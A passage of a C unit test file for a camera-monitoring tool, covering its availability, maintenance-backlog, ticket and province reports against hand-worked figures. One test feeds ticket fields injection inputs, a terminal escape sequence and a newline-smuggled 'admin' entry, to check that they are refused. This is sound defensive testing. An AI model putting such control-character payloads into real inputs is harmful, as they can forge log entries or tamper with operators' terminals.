/* test_report.c - the report documents (index/doc_report.c, doc_backlog*.c, doc_ticket.c,
 * doc_province.c) built from a real store the test writes through the store's own functions,
 * every figure checked against a value worked out by hand below (not by the code under test);
 * the arithmetic of availability (index/avail.c) on its own; and the renderers
 * (report/): CSV, HTML and XLSX from the same document, files written whole with mode
 * 0640. Times are fixed and the zone is UTC. The same fixture is read by three formats again
 * in tests/integration/test_report.py, against figures computed there in Python. */
#define _XOPEN_SOURCE 700
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "../index/avail.h"
#include "../index/doc.h"
#include "../index/store.h"
#include "../report/lang.h"
#include "../report/model.h"
#include "../report/report.h"
#include "cwtest.h"
#include "quality_sample.h"

#define H (3600 * 1000LL)
#define MIN (60 * 1000LL)
#define T0 1796083200000LL /* 2026-12-01T00:00:00Z, a Tuesday: the range's start */
#define T1 (T0 + 24 * H)   /* its end */
#define N_CAMS 4

struct fixture {
    char dir[64];
    char path[128];
    struct store *s;
    struct cfg cfg;
    struct cfg_camera cams[N_CAMS];
    struct cfg_owner owners[3];
    struct cfg_class cls;
    struct doc_ctx c;
};

/* CAH-001 on QL80, CAH-002 at a school (no priority), CHO-01 a market, TD-01 a border. */
static void fleet(struct fixture *fx)
{
    static const struct {
        const char *id, *name, *owner, *commune, *road;
        enum cfg_site_kind kind;
    } rows[N_CAMS] = {
        {"CAH-001", "Ngã ba QL80", "CAH", "Tân Dương", "QL80", CFG_SITE_DISTRICT},
        {"CAH-002", "Trường THCS Hòa Thành", "CAH", "Hòa Thành", "ĐT851", CFG_SITE_DISTRICT},
        {"CHO-01", "Chợ Lai Vung", "BQLC", "Thị trấn Lai Vung", "", CFG_SITE_MARKET},
        {"TD-01", "Giáp ranh Sa Đéc", "CAX-TD", "Tân Dương", "", CFG_SITE_COMMUNE},
    };
    fx->cls = default_class();
    for (size_t i = 0; i < N_CAMS; i++)
        fx->cams[i] = (struct cfg_camera){.id = (char *)rows[i].id,
                                          .name = (char *)rows[i].name,
                                          .owner = (char *)rows[i].owner,
                                          .commune = (char *)rows[i].commune,
                                          .road = (char *)rows[i].road,
                                          .rtsp_url = "rtsp://127.0.0.1:8554/cam",
                                          .site_kind = rows[i].kind,
                                          .cls = &fx->cls};
    fx->owners[0] = (struct cfg_owner){"BQLC", "Ban quản lý chợ Lai Vung"};
    fx->owners[1] = (struct cfg_owner){"CAH", "Công an huyện Lai Vung"};
    fx->owners[2] = (struct cfg_owner){"CAX-TD", "Công an xã Tân Dương"};
    fx->cfg.cameras = fx->cams;
    fx->cfg.n_cameras = N_CAMS;
    fx->cfg.owners = fx->owners;
    fx->cfg.n_owners = 3;
    fx->cfg.site_name = "Lai Vung";
    fx->cfg.authority = "Công an huyện Lai Vung";
    fx->cfg.language = "vi";
    fx->cfg.time_zone = "UTC";
    fx->cfg.onvif.max_clock_offset_ms = 5000;
    /* update_credentials is left unpriced; reconfigure_encoder costs nothing but staff time */
    fx->cfg.costs[CFG_ACTION_RESTORE_LINK] = (struct cfg_cost){1, 500000, "BG-1"};
    fx->cfg.costs[CFG_ACTION_CLEAN_LENS] = (struct cfg_cost){1, 200000, "BG-2"};
    fx->cfg.costs[CFG_ACTION_SETUP_NTP] = (struct cfg_cost){1, 100000, "BG-3"};
    fx->cfg.costs[CFG_ACTION_RECONFIGURE_ENCODER] = (struct cfg_cost){1, 0, "nhân công"};
    fx->cfg.costs[CFG_ACTION_UPDATE_FIRMWARE] = (struct cfg_cost){1, 150000, "BG-4"};
    fx->cfg.costs[CFG_ACTION_REPAIR_IR] = (struct cfg_cost){1, 800000, "BG-5"};
    fx->cfg.costs[CFG_ACTION_REPLACE_CAMERA] = (struct cfg_cost){1, 3500000, "BG-6"};
}

static void move(struct fixture *fx, const char *id, enum cw_state from, enum cw_state to,
                 int64_t at, const char *reason)
{
    struct cw_err err = {0};

    if (store_record_transition(fx->s, id, from, to, at, reason, &err) != 0)
        fail_msg("transition %s: %s", id, err.msg);
}

static void sample(struct fixture *fx, const char *id, int64_t at, const char *flags, double luma)
{
    struct store_sample smp = {0};
    struct cw_err err = {0};

    snprintf(smp.camera_id, sizeof(smp.camera_id), "%s", id);
    smp.at_ms = at;
    smp.ok = 1;
    smp.fps = 15;
    smp.bitrate_kbps = 600;
    smp.first_key_ms = -1;
    smp.has_picture = 1;
    smp.luma_mean = luma;
    smp.sharpness = 120;
    smp.ref_distance = -1;
    snprintf(smp.flags, sizeof(smp.flags), "%s", flags);
    if (store_record_sample(fx->s, &smp, NULL, &err) != 0)
        fail_msg("sample %s: %s", id, err.msg);
}

static void device(struct fixture *fx, struct store_device d, const struct store_profile *pr)
{
    struct cw_err err = {0};

    if (store_record_device(fx->s, &d, NULL, 0, pr, pr != NULL, NULL, NULL, &err) != 0)
        fail_msg("device %s: %s", d.camera_id, err.msg);
}

static void ticket(struct fixture *fx, const char *id, const char *action, int has_cost,
                   int64_t cost)
{
    struct doc_ticket_new tn = {id, action, "phiếu hiện trường", has_cost, cost, "kt", T1};
    struct cw_err err = {0};
    json_t *doc = NULL;

    if (doc_ticket_add(&fx->c, &tn, &doc, &err) != 0)
        fail_msg("ticket %s: %s", id, err.msg);
    json_decref(doc);
}

/* The history of the range [T0, T1) and what the store knows beside it:
 *   CAH-001 up T0-5h, down T0+2h (timeout), up T0+5h, down T0+10h (refused) to the end;
 *           ONVIF firmware V5.4.0 of HIK DS-X (CHO-01 runs V5.5.1).
 *   CAH-002 down T0-3h, up T0+1h, degraded T0+6h (blurred), maintenance T0+9h, unknown
 *           T0+12h, up T0+12h+1min; its latest sample dark (luma 20); its encoder set to
 *           352x288 at 4 fps; a ticket replace_camera at 4.000.000.
 *   CHO-01  up T0-1h, degraded T0+20h (slow and clock); 3 of 4 samples blurred, the latest
 *           clean; its clock 83 s ahead without NTP.
 *   TD-01   never probed (unknown); ONVIF refuses our credential; a ticket clean_lens. */
static void history(struct fixture *fx)
{
    struct store_profile cif = {.token = "p0",
                                .encoding = "h264",
                                .width = 352,
                                .height = 288,
                                .fps_limit = 4,
                                .bitrate_limit_kbps = 384,
                                .streamed = 1};

    move(fx, "CAH-001", CW_UNKNOWN, CW_UP, T0 - 5 * H, "");
    move(fx, "CAH-001", CW_UP, CW_DOWN, T0 + 2 * H, "timeout (after 5000 ms) after 3 failures");
    move(fx, "CAH-001", CW_DOWN, CW_UP, T0 + 5 * H, "recovered after 2 successes");
    move(fx, "CAH-001", CW_UP, CW_DOWN, T0 + 10 * H,
         "connection refused (nothing listens) after 3 failures");
    move(fx, "CAH-002", CW_UNKNOWN, CW_DOWN, T0 - 3 * H, "timeout after 3 failures");
    move(fx, "CAH-002", CW_DOWN, CW_UP, T0 + 1 * H, "recovered after 2 successes");
    move(fx, "CAH-002", CW_UP, CW_DEGRADED, T0 + 6 * H,
         "picture blurred (sharpness 14, class minimum 60)");
    move(fx, "CAH-002", CW_DEGRADED, CW_MAINTENANCE, T0 + 9 * H, "maintenance: lau kính");
    move(fx, "CAH-002", CW_MAINTENANCE, CW_UNKNOWN, T0 + 12 * H, "maintenance ended");
    move(fx, "CAH-002", CW_UNKNOWN, CW_UP, T0 + 12 * H + MIN, "");
    move(fx, "CHO-01", CW_UNKNOWN, CW_UP, T0 - 1 * H, "");
    move(fx, "CHO-01", CW_UP, CW_DEGRADED, T0 + 20 * H,
         "slow answer: 2500 ms (limit 2000 ms); clock 83 s ahead");
    sample(fx, "CAH-002", T0 + 3 * H, "dark", 20);
    for (int i = 0; i < 4; i++)
        sample(fx, "CHO-01", T0 + (4 + i) * H, i < 3 ? "blurred" : "", 120);
    device(fx,
           (struct store_device){.camera_id = "CAH-001",
                                 .probed_ms = T0,
                                 .ok = 1,
                                 .manufacturer = "HIK",
                                 .model = "DS-X",
                                 .firmware = "V5.4.0"},
           NULL);
    device(fx,
           (struct store_device){.camera_id = "CAH-002",
                                 .probed_ms = T0,
                                 .ok = 1,
                                 .manufacturer = "Dahua",
                                 .model = "IPC",
                                 .firmware = "2.8"},
           &cif);
    device(fx,
           (struct store_device){.camera_id = "CHO-01",
                                 .probed_ms = T0,
                                 .ok = 1,
                                 .manufacturer = "HIK",
                                 .model = "DS-X",
                                 .firmware = "V5.5.1",
                                 .has_clock = 1,
                                 .clock_at_ms = T0,
                                 .clock_offset_ms = 83000,
                                 .clock_error_ms = 500},
           NULL);
    device(fx,
           (struct store_device){.camera_id = "TD-01",
                                 .probed_ms = T0,
                                 .ok = 0,
                                 .error = "authentication failed (GetProfiles: ter:NotAuthorized)"},
           NULL);
    ticket(fx, "CAH-002", "replace_camera", 1, 4000000);
    ticket(fx, "TD-01", "clean_lens", 0, 0);
}

static int setup(void **state)
{
    struct fixture *fx = calloc(1, sizeof(*fx));
    struct cw_err err = {0};

    if (fx == NULL || cwtest_tmpdir(fx->dir, sizeof(fx->dir), "report") != 0)
        return -1;
    snprintf(fx->path, sizeof(fx->path), "%s/camwatch.db", fx->dir);
    if (store_open(fx->path, STORE_READWRITE, &fx->s, &err) != 0)
        return -1;
    fleet(fx);
    if (store_sync_cameras(fx->s, &fx->cfg, T0 - 10 * H, &err) != 0)
        return -1;
    fx->c = (struct doc_ctx){fx->s, &fx->cfg, "UTC"};
    history(fx);
    *state = fx;
    return 0;
}

static int teardown(void **state)
{
    struct fixture *fx = *state;

    store_close(fx->s);
    cwtest_rmtree(fx->dir);
    free(fx);
    return 0;
}

static json_t *by(json_t *arr, const char *key, const char *value)
{
    json_t *o;
    size_t i;

    json_array_foreach(arr, i, o) if (strcmp(json_string_value(json_object_get(o, key)), value) ==
                                      0) return o;
    fail_msg("no %s '%s'", key, value);
    return NULL;
}

static json_int_t num(const json_t *o, const char *key)
{
    if (!json_is_integer(json_object_get(o, key)))
        fail_msg("%s is not an integer", key);
    return json_integer_value(json_object_get(o, key));
}

static json_int_t ms_of(const json_t *o, const char *state)
{
    return json_integer_value(json_object_get(json_object_get(o, "ms"), state));
}

static void assert_pct(const json_t *o, double want)
{
    double got = json_real_value(json_object_get(o, "availability_pct"));

    if (got < want - 1e-9 || got > want + 1e-9)
        fail_msg("availability %.12f, want %.12f", got, want);
}

/* ---- availability ---- */

/* The tickets list as `ticket list` runs it. */
static int tickets(const struct doc_ctx *c, int all, json_t **out, struct cw_err *err)
{
    const struct doc_tickets_query q = {NULL, all};

    return doc_view_run(c, &doc_view_tickets, &q, out, err);
}

static void test_availability_of_each_camera_from_its_intervals(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *a, *b, *c, *d;

    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    a = by(json_object_get(doc, "cameras"), "id", "CAH-001");
    assert_int_equal(ms_of(a, "up"), 7 * H);
    assert_int_equal(ms_of(a, "down"), 17 * H);
    assert_int_equal(num(a, "outages"), 2);
    assert_int_equal(num(a, "longest_down_ms"), 14 * H);
    assert_int_equal(num(a, "repairs"), 1);
    assert_int_equal(num(a, "mttr_ms"), 3 * H);
    assert_pct(a, 100.0 * 7 / 24);
    /* down before the range: no outage in it, but its repair counts whole (4 h) */
    b = by(json_object_get(doc, "cameras"), "id", "CAH-002");
    assert_int_equal(ms_of(b, "down"), 1 * H);
    assert_int_equal(num(b, "outages"), 0);
    assert_int_equal(num(b, "longest_down_ms"), 1 * H);
    assert_int_equal(num(b, "mttr_ms"), 4 * H);
    assert_int_equal(ms_of(b, "degraded"), 3 * H);
    assert_int_equal(ms_of(b, "maintenance"), 3 * H); /* apart, not down */
    assert_int_equal(ms_of(b, "unknown"), MIN);
    assert_int_equal(ms_of(b, "up"), 5 * H + 12 * H - MIN);
    assert_int_equal(num(b, "monitored_ms"), 21 * H - MIN);
    assert_pct(b, 100.0 * (20.0 * H - MIN) / (21.0 * H - MIN));
    assert_int_equal(num(json_object_get(b, "degraded_by"), "blurred"), 3 * H);
    /* one spell degraded for two kinds counts under both */
    c = by(json_object_get(doc, "cameras"), "id", "CHO-01");
    assert_int_equal(num(json_object_get(c, "degraded_by"), "slow"), 4 * H);
    assert_int_equal(num(json_object_get(c, "degraded_by"), "clock"), 4 * H);
    assert_true(json_is_null(json_object_get(c, "mttr_ms")));
    /* never probed: nothing monitored, availability unknown */
    d = by(json_object_get(doc, "cameras"), "id", "TD-01");
    assert_int_equal(ms_of(d, "unknown"), 24 * H);
    assert_true(json_is_null(json_object_get(d, "availability_pct")));
    json_decref(doc);
}

static void test_availability_sums_owners_communes_district_and_weeks(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *cah, *tot, *td, *weeks;

    assert_int_equal(doc_availability(&fx->c, T0, T1, T1, &doc, &err), 0);
    cah = by(json_object_get(doc, "owners"), "owner", "CAH");
    assert_int_equal(num(cah, "cameras"), 2);
    assert_int_equal(num(cah, "outages"), 2);
    assert_int_equal(num(cah, "downtime_ms"), 18 * H);
    assert_int_equal(num(cah, "longest_down_ms"), 14 * H);
    assert_int_equal(num(cah, "mttr_ms"), (3 * H + 4 * H) / 2);
    assert_int_equal(num(cah, "down_now"), 1);
    assert_pct(cah, 100.0 * (7.0 * H + 20.0 * H - MIN) / (24.0 * H + 21.0 * H - MIN));
    td = by(json_object_get(doc, "communes"), "commune", "Tân Dương");
    assert_int_equal(num(td, "cameras"), 2); /* CAH-001 and TD-01 */
    tot = json_object_get(doc, "total");
    assert_int_equal(num(tot, "cameras"), 4);
    assert_int_equal(num(tot, "monitored_ms"), 24 * H + 21 * H - MIN + 24 * H);
    /* owners sorted by code; the week of Monday 30/11 holds both outages */
    assert_string_equal(json_string_value(json_object_get(
                            json_array_get(json_object_get(doc, "owners"), 0), "owner")),
                        "BQLC");
    weeks = json_object_get(doc, "weeks");
    assert_int_equal(json_array_size(weeks), 1);
    assert_string_equal(json_string_value(json_object_get(json_array_get(weeks, 0), "start")),
                        "2026-11-30");
    assert_int_equal(num(json_array_get(weeks, 0), "outages"), 2);
    json_decref(doc);
    assert_int_equal(doc_availability(&fx->c, T1, T0, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.msg, "report range is empty or ends before it starts");
    assert_int_equal(doc_backlog(&fx->c, T1, T0, T1, &doc, &err), DOC_BAD_INPUT);
    assert_int_equal(doc_backlog(&fx->c, T0, T0, T1, &doc, &err), DOC_BAD_INPUT);
    assert_null(doc);
}

static void test_a_range_past_the_weeks_limit_is_bad_input_not_an_error(void **state)
{
    struct fixture *fx = *state;
    const int64_t week = 7 * 86400000LL;
    struct cw_err err;
    json_t *doc = NULL;

    /* 1099 weeks overlap at most 1100 Mondays' weeks: the most a report holds */
    assert_int_equal(doc_availability(&fx->c, T1 - 1099 * week, T1, T1, &doc, &err), 0);
    assert_int_equal(json_array_size(json_object_get(doc, "weeks")), 1100);
    json_decref(doc);
    doc = NULL;
    /* a user asking from 1900 gets told the range is too long, as a bad request */
    assert_int_equal(doc_availability(&fx->c, T1 - 1101 * week, T1, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.msg, "from, to: a report covers at most 1100 weeks (about 21 years)");
    assert_null(doc);
    assert_int_equal(doc_backlog(&fx->c, T1 - 1101 * week, T1, T1, &doc, &err), DOC_BAD_INPUT);
    assert_null(doc);
}

static void add_spell(void *data, const struct uptime_spell *sp)
{
    avail_add_spell(data, sp);
}

static void test_availability_arithmetic_clips_spells_to_the_range(void **state)
{
    /* up at 0, down at 10, up at 30, down at 50, maintenance at 60; range [20, 70) */
    const struct uptime_event ev[] = {
        {0, CW_UP, 0}, {10, CW_DOWN, 0}, {30, CW_UP, 0}, {50, CW_DOWN, 0}, {60, CW_MAINTENANCE, 0}};
    struct avail a = {0};
    (void)state;

    assert_int_equal(uptime_walk(0, ev, 5, 20, 70, add_spell, &a), 0);
    assert_int_equal(a.ms[CW_DOWN], 10 + 10);
    assert_int_equal(a.ms[CW_UP], 20);
    assert_int_equal(a.ms[CW_MAINTENANCE], 10);
    assert_int_equal(a.outages, 1);          /* the one that began at 50 */
    assert_int_equal(a.longest_down_ms, 10); /* the parts inside */
    assert_int_equal(a.repairs, 2);          /* ended at 30 (began at 10) and at 60 */
    assert_int_equal(avail_mttr_ms(&a), (20 + 10) / 2);
    assert_true(avail_percent(&a) == 50.0); /* up 20 of 40 monitored */
}

/* ---- the backlog ---- */

static void test_backlog_finds_what_each_camera_needs_and_prices_it(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *items, *a, *b, *c, *d, *x;

    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    items = json_object_get(doc, "items");
    assert_int_equal(json_array_size(items), 4);
    /* priority sites first, then by downtime, then by id */
    assert_string_equal(json_string_value(json_object_get(json_array_get(items, 0), "id")),
                        "CAH-001");
    assert_string_equal(json_string_value(json_object_get(json_array_get(items, 1), "id")),
                        "CHO-01");
    assert_string_equal(json_string_value(json_object_get(json_array_get(items, 2), "id")),
                        "TD-01");
    assert_string_equal(json_string_value(json_object_get(json_array_get(items, 3), "id")),
                        "CAH-002");
    a = json_array_get(items, 0);
    assert_int_equal(num(a, "priority"), 1);
    assert_string_equal(json_string_value(json_array_get(json_object_get(a, "priority_why"), 0)),
                        "national_road");
    x = by(json_object_get(a, "findings"), "kind", "down");
    assert_string_equal(json_string_value(json_array_get(json_object_get(x, "causes"), 0)),
                        "refused");
    /* it needs a visit anyway, so its older firmware joins */
    x = by(json_object_get(a, "findings"), "kind", "firmware");
    assert_string_equal(json_string_value(json_object_get(x, "newest")), "V5.5.1");
    assert_int_equal(num(by(json_object_get(a, "actions"), "action", "restore_link"), "cost_vnd"),
                     500000);
    assert_int_equal(num(a, "cost_vnd"), 650000);
    /* a market: blurred in 3 of 4 samples though the latest is clean; its clock */
    c = json_array_get(items, 1);
    x = by(json_object_get(c, "findings"), "kind", "blurred");
    assert_false(json_is_true(json_object_get(x, "now")));
    assert_int_equal(num(x, "flagged"), 3);
    assert_int_equal(num(x, "samples"), 4);
    assert_int_equal(num(by(json_object_get(c, "findings"), "kind", "clock"), "offset_ms"), 83000);
    assert_int_equal(num(c, "cost_vnd"), 200000 + 100000);
    /* a border: the ticket, and the credential ONVIF refuses, which has no price */
    d = json_array_get(items, 2);
    assert_string_equal(json_string_value(json_array_get(json_object_get(d, "priority_why"), 0)),
                        "border");
    assert_int_equal(num(by(json_object_get(d, "actions"), "action", "clean_lens"), "cost_vnd"),
                     200000);
    assert_true(json_is_null(json_object_get(
        by(json_object_get(d, "actions"), "action", "update_credentials"), "cost_vnd")));
    assert_int_equal(num(d, "unpriced"), 1);
    /* the ticket's own cost; the dark picture and the encoder set below the class */
    b = json_array_get(items, 3);
    x = by(json_object_get(b, "actions"), "action", "replace_camera");
    assert_string_equal(json_string_value(json_object_get(x, "origin")), "ticket");
    assert_int_equal(num(x, "cost_vnd"), 4000000);
    x = by(json_object_get(b, "findings"), "kind", "dark");
    assert_true(json_is_true(json_object_get(x, "now")));
    assert_true(json_real_value(json_object_get(x, "value")) == 20.0);
    by(json_object_get(b, "findings"), "kind", "encoder_config");
    assert_int_equal(num(b, "cost_vnd"), 4000000 + 800000 + 0);
    json_decref(doc);
}

static void test_backlog_totals_per_owner_action_and_district(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *t, *cah, *acts;

    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    cah = by(json_object_get(doc, "owners"), "owner", "CAH");
    assert_int_equal(num(cah, "cameras"), 2);
    assert_int_equal(num(cah, "needing_work"), 2);
    assert_int_equal(num(cah, "down_now"), 1);
    assert_int_equal(num(cah, "actions"), 5);
    assert_int_equal(num(cah, "cost_vnd"), 650000 + 4800000);
    assert_int_equal(num(cah, "priority_cost_vnd"), 650000);
    t = json_object_get(doc, "total");
    assert_int_equal(num(t, "cameras"), 4);
    assert_int_equal(num(t, "needing_work"), 4);
    assert_int_equal(num(t, "priority_items"), 3);
    assert_int_equal(num(t, "actions"), 9);
    assert_int_equal(num(t, "cost_vnd"), 5950000);
    assert_int_equal(num(t, "priority_cost_vnd"), 1150000);
    assert_int_equal(num(t, "unpriced"), 1);
    acts = json_object_get(doc, "by_action");
    assert_int_equal(num(by(acts, "action", "clean_lens"), "count"), 2);
    assert_int_equal(num(by(acts, "action", "clean_lens"), "cost_vnd"), 400000);
    assert_int_equal(num(by(acts, "action", "update_credentials"), "unpriced"), 1);
    /* recording gaps are not measured: said, not guessed */
    assert_false(json_is_true(json_object_get(json_object_get(doc, "measured"), "recording_gaps")));
    json_decref(doc);
}

/* ---- tickets ---- */

static void test_ticket_texts_with_control_characters_are_refused(void **state)
{
    struct fixture *fx = *state;
    struct doc_ticket_new esc = {"CAH-001", "reaim", "xoay l\x1b[2Ji", 0, 0, "kt", T1};
    struct doc_ticket_new nl = {"CAH-001", "reaim", "ok", 0, 0, "kt\nadmin", T1};
    struct cw_err err = {0};
    json_t *doc = NULL;

    assert_int_equal(doc_ticket_add(&fx->c, &esc, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.field, "note");
    assert_string_equal(err.msg, "a control character (a new line, tab or escape) in the text");
    assert_int_equal(doc_ticket_add(&fx->c, &nl, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.field, "by");
    assert_int_equal(doc_ticket_close(&fx->c, 1, "kt", "xong\r\nđã thay", T1 + H, &doc, &err),
                     DOC_BAD_INPUT);
    assert_string_equal(err.field, "note");
    assert_null(doc);
    /* nothing was written: the fixture's two tickets, the first still open */
    assert_int_equal(tickets(&fx->c, 0, &doc, &err), 0);
    assert_int_equal(json_array_size(doc), 2);
    json_decref(doc);
}

static void test_tickets_open_close_once_and_refuse_unknown_actions(void **state)
{
    struct fixture *fx = *state;
    struct doc_ticket_new bad = {"CAH-001", "paint_pole", NULL, 0, 0, "kt", T1};
    struct doc_ticket_new none = {"NOPE-1", "reaim", NULL, 0, 0, "kt", T1};
    struct cw_err err = {0};
    json_t *doc = NULL;

    assert_int_equal(doc_ticket_add(&fx->c, &bad, &doc, &err), DOC_BAD_INPUT);
    assert_non_null(strstr(err.msg, "unknown action 'paint_pole' (one of: restore_link"));
    assert_int_equal(doc_ticket_add(&fx->c, &none, &doc, &err), DOC_NOT_FOUND);
    assert_int_equal(tickets(&fx->c, 0, &doc, &err), 0);
    assert_int_equal(json_array_size(doc), 2);
    json_decref(doc);
    assert_int_equal(doc_ticket_close(&fx->c, 1, "kt", "đã thay", T1 + H, &doc, &err), 0);
    assert_string_equal(json_string_value(json_object_get(doc, "state")), "closed");
    json_decref(doc);
    /* closed again: a conflict with what is stored (409 in the API), saying when and by whom */
    assert_int_equal(doc_ticket_close(&fx->c, 1, "kt", NULL, T1 + 2 * H, &doc, &err), DOC_CONFLICT);
    assert_non_null(strstr(err.msg, "ticket 1 was closed already ("));
    assert_non_null(strstr(err.msg, " by kt)"));
    assert_int_equal(doc_ticket_close(&fx->c, 99, "kt", NULL, T1, &doc, &err), DOC_NOT_FOUND);
    assert_int_equal(tickets(&fx->c, 0, &doc, &err), 0);
    assert_int_equal(json_array_size(doc), 1); /* open ones */
    json_decref(doc);
    assert_int_equal(tickets(&fx->c, 1, &doc, &err), 0);
    assert_int_equal(json_array_size(doc), 2);
    json_decref(doc);
    /* a closed ticket leaves the backlog: CAH-002 keeps only its findings' actions */
    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &doc, &err), 0);
    assert_int_equal(num(by(json_object_get(doc, "items"), "id", "CAH-002"), "cost_vnd"), 800000);
    json_decref(doc);
}

/* What a district's IT lead follows up: each closed ticket in the list (all) says when, by
 * whom and what was done, and an open one says none of it (null, not ""). The table of
 * `ticket list --all` is rendered from these fields. */
static void test_a_closed_ticket_in_the_list_says_when_by_whom_and_what_was_done(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *doc = NULL, *o;

    assert_int_equal(doc_ticket_close(&fx->c, 1, "van", "đã thay camera", T1 + H, &doc, &err), 0);
    json_decref(doc);
    assert_int_equal(tickets(&fx->c, 1, &doc, &err), 0);
    assert_int_equal(json_array_size(doc), 2);
    o = by(doc, "camera", "CAH-002"); /* ticket 1 */
    assert_int_equal(json_integer_value(json_object_get(o, "id")), 1);
    assert_string_equal(json_string_value(json_object_get(o, "state")), "closed");
    assert_string_equal(json_string_value(json_object_get(o, "closed")),
                        "2026-12-02T01:00:00+00:00");
    assert_int_equal(json_integer_value(json_object_get(o, "closed_ms")), T1 + H);
    assert_string_equal(json_string_value(json_object_get(o, "closed_by")), "van");
    assert_string_equal(json_string_value(json_object_get(o, "close_note")), "đã thay camera");
    assert_string_equal(json_string_value(json_object_get(o, "opened_by")), "kt");
    o = by(doc, "camera", "TD-01");
    assert_string_equal(json_string_value(json_object_get(o, "state")), "open");
    assert_true(json_is_null(json_object_get(o, "closed")));
    assert_true(json_is_null(json_object_get(o, "closed_by")));
    assert_true(json_is_null(json_object_get(o, "close_note")));
    json_decref(doc);
}

/* ---- the province ---- */

/* Two districts' backlogs of the fixture's day: a.json (Lai Vung) and b.json, its copy named
 * Sa Đéc. The caller frees *a and *b. */
static void two_districts(struct fixture *fx, json_t **a, json_t **b, struct doc_district in[2])
{
    struct cw_err err = {0};

    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, a, &err), 0);
    *b = json_deep_copy(*a);
    json_object_set_new(*b, "site", json_string("Sa Đéc"));
    in[0] = (struct doc_district){"a.json", *a};
    in[1] = (struct doc_district){"b.json", *b};
}

static void test_province_sums_districts_and_names_a_bad_field(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *a = NULL, *b, *doc = NULL;
    struct doc_district in[2];

    two_districts(fx, &a, &b, in);
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0);
    assert_int_equal(json_array_size(json_object_get(doc, "districts")), 2);
    assert_int_equal(num(json_object_get(doc, "total"), "cost_vnd"), 2 * 5950000);
    assert_int_equal(num(by(json_object_get(doc, "by_action"), "action", "clean_lens"), "count"),
                     4);
    json_decref(doc);
    /* the same district twice */
    json_object_set_new(b, "site", json_string("Lai Vung"));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.file, "b.json");
    /* a count that is not one */
    json_object_set_new(b, "site", json_string("Sa Đéc"));
    json_object_set_new(json_object_get(b, "total"), "cost_vnd", json_string("nhiều"));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.field, "total.cost_vnd");
    /* another kind of document */
    json_object_set_new(b, "kind", json_string("availability"));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.field, "kind");
    json_decref(a);
    json_decref(b);
}

/* A district's file is summed twice: its total into the province's table I, its owners into
 * table II, its kinds of work into table III. A file whose parts do not add up to its total
 * (a figure edited by hand in one place) would make the province's tables disagree: it is
 * refused, naming the file, the list and the figure. */
static void test_province_refuses_a_district_whose_parts_do_not_add_up(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *a = NULL, *b, *doc = NULL, *tot, *act;
    struct doc_district in[2];
    json_int_t cost;

    two_districts(fx, &a, &b, in);
    tot = json_object_get(b, "total");
    cost = json_integer_value(json_object_get(tot, "cost_vnd"));
    json_object_set_new(tot, "cost_vnd", json_integer(cost + 1000000));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
    assert_null(doc);
    assert_string_equal(err.file, "b.json");
    assert_string_equal(err.field, "owners");
    assert_non_null(strstr(err.msg, "total.cost_vnd"));
    json_object_set_new(tot, "cost_vnd", json_integer(cost));
    /* a kind of work's count edited: the owners still add up, the kinds of work do not */
    act = json_array_get(json_object_get(b, "by_action"), 0);
    json_object_set_new(act, "count",
                        json_integer(json_integer_value(json_object_get(act, "count")) + 1));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), DOC_BAD_INPUT);
    assert_string_equal(err.file, "b.json");
    assert_string_equal(err.field, "by_action");
    assert_non_null(strstr(err.msg, "total.actions"));
    json_object_set_new(act, "count",
                        json_integer(json_integer_value(json_object_get(act, "count")) - 1));
    assert_int_equal(doc_province(&fx->c, in, 2, T1, &doc, &err), 0); /* as sent: taken */
    json_decref(doc);
    json_decref(a);
    json_decref(b);
}

/* Time figures are checked one by one against a bound; their sum over districts is checked
 * too, never left to wrap (five districts each just under the bound). */
static void test_province_refuses_times_whose_sum_would_overflow(void **state)
{
    struct fixture *fx = *state;
    struct cw_err err = {0};
    json_t *a = NULL, *docs[5], *doc = NULL, *av;
    struct doc_district in[5];
    static const char *const sites[] = {"A", "B", "C", "D", "E"};
    static const char *const files[] = {"a.json", "b.json", "c.json", "d.json", "e.json"};

    assert_int_equal(doc_backlog(&fx->c, T0, T1, T1, &a, &err), 0);
    for (size_t i = 0; i < 5; i++) {
        docs[i] = json_deep_copy(a);
        json_object_set_new(docs[i], "site", json_string(sites[i]));
        av = json_object_get(json_object_get(docs[i], "availability"), "total");
        json_object_set_new(av, "monitored_ms", json_integer(INT64_MAX / 4));
        json_object_set_new(json_object_get(av, "ms"), "up", json_integer(INT64_MAX / 4));
        json_object_set_new(json_object_get(av, "ms"), "degraded", json_integer(0));
        in[i] = (struct doc_district){files[i], docs[i]};
    }
    assert_int_equal(doc_province(&fx->c, in, 5, T1, &doc, &err), DOC_BAD_INPUT);
    assert_null(doc);
    assert_string_equal(err.field, "availability.total.monitored_ms");
    assert_non_null(strstr(err.msg, "too large"));
